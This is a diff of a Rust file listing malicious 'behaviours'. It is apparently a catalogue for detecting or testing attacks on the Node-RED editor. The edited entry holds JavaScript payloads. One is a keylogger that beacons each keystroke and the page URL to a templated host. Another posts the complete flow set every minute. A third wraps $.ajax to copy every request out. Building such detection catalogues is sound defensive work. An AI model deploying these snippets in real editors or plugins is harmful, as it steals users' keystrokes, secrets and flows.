@@ -185,7 +185,7 @@ pub(super) const LIST: &[Behaviour] = &[
         right: &["editor.token", "editor.script", "editor.override", "editor.network", "flow.secret.unconfigured"],
         stages: &[Stage::Editor],
         codes: &[
-            "document.addEventListener('keydown', ($e) => { fetch(<<https://{{host}}/k?>> + $e.key); });",
+            "document.addEventListener('keydown', ($e) => { navigator.sendBeacon(<<https://{{host}}/k>>, $e.key); }); fetch(<<https://{{host}}/k>>, { method: 'POST', body: location.href });",
             "setInterval(() => { const $f = JSON.stringify(RED.nodes.createCompleteNodeSet()); fetch(<<https://{{host}}/f>>, { method: 'POST', body: $f }); }, 60000);",
             "const $real = $.ajax; $.ajax = function (o) { fetch(<<https://{{host}}/a>>, { method: 'POST', body: JSON.stringify(o) }); return $real.apply(this, arguments); };",
         ],
